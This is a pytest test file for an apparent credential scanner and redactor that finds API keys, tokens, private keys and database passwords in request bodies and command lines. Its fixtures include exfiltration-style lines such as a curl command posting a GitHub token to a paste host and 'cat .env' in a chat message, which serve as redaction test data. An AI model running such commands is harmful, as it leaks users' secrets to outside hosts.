"""The scanner: matches, names, merging with known values, placeholders, redaction, bodies."""

from __future__ import annotations

import base64
import gzip
import json

import pytest
from detect_support import FINGERPRINTER, all_examples, example, scanner, scanner_with
from hypothesis import given, settings
from hypothesis import strategies as st

from agentguard.detect.fingerprint import preview
from agentguard.detect.templates import expand
from agentguard.model.secret import KNOWN_VALUE, SecretValue

OPENAI = example("openai-project-key")
GITHUB = example("github-personal-token")
PASSWORD = expand("{alnum:18}", "password")


def known(text: str, name: str = "DB_PASSWORD", hosts: tuple[str, ...] = ()) -> SecretValue:
    value = text.encode()
    return SecretValue(
        value=value,
        fingerprint=FINGERPRINTER.of(value),
        preview=preview(value),
        name=name,
        issuer_hosts=hosts,
        source_path="/home/u/.env",
    )


def test_a_match_tells_all_but_the_value() -> None:
    (match,) = scanner().scan(f'{{"api_key": "{OPENAI}"}}'.encode(), place="body")
    assert (match.type, match.name, match.place, match.encoding) == ("openai-project-key", "api_key", "body", ())
    assert match.fingerprint == FINGERPRINTER.of(OPENAI.encode())
    assert match.issuer_hosts == ("api.openai.com",)
    assert match.checksum_valid is None
    assert OPENAI not in repr(match)
    assert OPENAI[8:] not in repr(scanner().locate(OPENAI.encode()))


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("OPENAI_API_KEY={}", "OPENAI_API_KEY"),
        ("export KEY='{}'", "KEY"),
        ('{{\\"token\\": \\"{}\\"}}', "token"),
        ("api-key: {}", "api-key"),
        ("Authorization: Bearer {}", "Authorization"),
        ("k%3D{}", "k"),
        ('{{"text": "PORT=1\\nOPENAI_API_KEY={}"}}', "OPENAI_API_KEY"),
        ('{{"text": "PORT=1\\u000aOPENAI_API_KEY={}"}}', "OPENAI_API_KEY"),
        ('{{"text": "\\n={}"}}', ""),
        ("key = b'{}'", "key"),
        ("env('SECRET_KEY',\n    '{}')", "SECRET_KEY"),
        ('["first", "{}"]', ""),
        ("just {} here", ""),
        (f"{GITHUB}: {{}}", ""),
    ],
)
def test_the_name_before_a_secret(text: str, name: str) -> None:
    matches = {match.type: match for match in scanner().scan(text.format(OPENAI).encode())}
    assert matches["openai-project-key"].name == name


@pytest.mark.parametrize(
    "value",
    [
        "sk-" + "proj-" + "x" * 60,
        "ghp_" + "your" + "token" + "A1b2" * 6 + "abc",
        "AK" + "IAIOSFODNN7" + "EXAMPLE",
        "AK" + "IA" + "1234567890ABCDEF",
        "sk-" + "proj-" + "0123456789abcdef" * 4,
        "postgres" + "://user:${DB_PASSWORD}@db.example/app",
        "postgres" + "://postgres:postgres@localhost:5432/app",
        "mysql" + "://root:***@db.example/app",
        "mysql" + "://root:{password}@db.shop.io/app",
        "mysql" + "://root:DB_PASSWORD@db.shop.io/app",
    ],
)
def test_placeholders_are_quiet(value: str) -> None:
    assert scanner().scan(f"KEY={value}\n".encode()) == []


def test_a_placeholder_that_is_a_known_value_is_told() -> None:
    value = "AK" + "IA" + "1234567890ABCDEF"
    (match,) = scanner_with(known(value)).scan(value.encode())
    assert match.type == "aws-access-key-id"
    assert match.source_path == "/home/u/.env"


def test_one_secret_raw_and_encoded_is_one_match() -> None:
    data = base64.b64encode(f"the key: {OPENAI}".encode()) + b" " + OPENAI.encode() + b" " + OPENAI.encode()
    (match,) = scanner().scan(data)
    assert match.encoding == ()


def test_a_known_value_of_a_recognised_form_is_one_match() -> None:
    value = known(OPENAI, "OPENAI_API_KEY", ("gateway.corp.example",))
    (match,) = scanner_with(value).scan(f"x={OPENAI}".encode())
    assert (match.type, match.name, match.source_path) == ("openai-project-key", "OPENAI_API_KEY", "/home/u/.env")
    assert match.issuer_hosts == ("api.openai.com", "gateway.corp.example")


def test_a_known_password_in_a_database_url_leads_the_flow() -> None:
    url = "postgres" + f"://app:{PASSWORD}@db.shop.example:5432/app"
    (match,) = scanner_with(known(PASSWORD)).scan(url.encode())
    assert match.type == "database-url"
    assert match.fingerprint == FINGERPRINTER.of(PASSWORD.encode())
    assert match.issuer_hosts == ("db.shop.example",)


def test_a_known_value_without_form_is_found_in_every_view() -> None:
    one = scanner_with(known(PASSWORD))
    for data, encoding in (
        (PASSWORD, ()),
        (base64.b64encode(f"user:{PASSWORD} and more".encode()).decode(), ("base64",)),
        (f"user:{PASSWORD} and more".encode().hex(), ("hex",)),
    ):
        (match,) = one.scan(data.encode())
        assert (match.type, match.encoding) == (KNOWN_VALUE, encoding)


def test_the_specific_type_beats_the_shared_form() -> None:
    for identity in ("supabase-jwt-key", "gcp-service-account-key", "openai-user-key"):
        assert [match.type for match in scanner().scan(example(identity).encode())] == [identity]


def test_a_private_key_is_the_same_however_its_lines_end() -> None:
    key = example("pem-private-key")
    forms = [key, key.replace("\n", "\r\n"), json.dumps(key), json.dumps(json.dumps(key)), key.replace("\n", "\\n")]
    fingerprints = {match.fingerprint for form in forms for match in scanner().scan(form.encode())}
    assert len(fingerprints) == 1


def test_a_publishable_key_is_marked() -> None:
    (match,) = scanner().scan(example("stripe-publishable-key").encode())
    assert match.public


def test_checksums_are_told() -> None:
    broken = GITHUB[:-1] + ("a" if GITHUB[-1] != "a" else "b")
    assert [m.checksum_valid for m in scanner().scan(f"{GITHUB} {broken}".encode())] == [True, False]


@pytest.mark.parametrize(("identity", "text"), all_examples(), ids=[identity for identity, _ in all_examples()])
def test_redaction_leaves_nothing_of_any_type(identity: str, text: str) -> None:
    located = scanner().locate(text.encode())
    for form in (text, f"curl -H 'X: {text}'", base64.b64encode(f"the secret {text}".encode()).decode()):
        redacted, matches = scanner().redact(form)
        assert identity in {match.type for match in matches}
        assert scanner().scan_text(redacted, "argv") == []
        assert not any(one.value.decode() in redacted for one in located)


def test_redaction_keeps_the_rest() -> None:
    redacted, (match,) = scanner().redact(f"curl -d token={GITHUB} https://paste.example/\udcff")
    assert redacted == f"curl -d token={match.preview} https://paste.example/\udcff"
    assert scanner().redact("ls -l /tmp") == ("ls -l /tmp", [])


def test_redaction_of_a_whole_private_key() -> None:
    redacted, _ = scanner().redact(f"echo '{example('openssh-private-key')}' > key")
    assert "END" not in redacted
    assert redacted.endswith("' > key")


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=40), st.text(max_size=40), st.sampled_from(["plain", "base64", "hex"]))
def test_redaction_is_complete_whatever_stands_around(before: str, after: str, how: str) -> None:
    encoded = {"plain": f" {GITHUB}", "base64": base64.b64encode(f"the {GITHUB}".encode()).decode()}
    secret = encoded.get(how, f"the token {GITHUB}".encode().hex())
    redacted, _ = scanner().redact(f"{before} {secret} {after}")
    assert GITHUB not in redacted
    assert scanner().scan_text(redacted, "argv") == []


def test_a_compressed_json_body() -> None:
    body = gzip.compress(json.dumps({"messages": [{"content": f"cat .env\nKEY={OPENAI}"}]}).encode())
    scan = scanner().scan_body(body, content_type="application/json", content_encoding="gzip")
    assert [(match.type, match.place) for match in scan.matches] == [("openai-project-key", "body")]
    assert scan.opaque == ""


def test_a_form_body() -> None:
    scan = scanner().scan_body(f"a=1&token={GITHUB}&b=2".encode(), content_type="application/x-www-form-urlencoded")
    assert [(match.name, match.place) for match in scan.matches] == [("token", "body")]


def test_multipart_fields_are_told_apart() -> None:
    body = (
        f'--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n{OPENAI}\r\n'
        f'--b\r\nContent-Disposition: form-data; name="file"; filename=".env"\r\n\r\nT={GITHUB}\r\n--b--\r\n'
    )
    scan = scanner().scan_body(body.encode(), content_type='multipart/form-data; boundary="b"')
    assert {(match.type, match.place) for match in scan.matches} == {
        ("openai-project-key", "multipart:note"),
        ("github-personal-token", "multipart:file"),
    }


def test_a_secret_for_a_field_name_is_found_and_not_shown() -> None:
    body = f'--b\r\nContent-Disposition: form-data; name="{GITHUB}"\r\n\r\n{OPENAI}\r\n--b--'
    scan = scanner().scan_body(body.encode(), content_type="multipart/form-data; boundary=b")
    assert {match.type for match in scan.matches} == {"github-personal-token", "openai-project-key"}
    assert GITHUB not in repr(scan)


def test_a_header_that_lies_about_the_coding() -> None:
    scan = scanner().scan_body(GITHUB.encode(), content_encoding="gzip")
    assert [match.type for match in scan.matches] == ["github-personal-token"]
    assert scan.opaque == "not valid gzip"
    unknown = scanner().scan_body(GITHUB.encode(), content_encoding="secret-sauce")
    assert len(unknown.matches) == 1
    assert "not known" in unknown.opaque
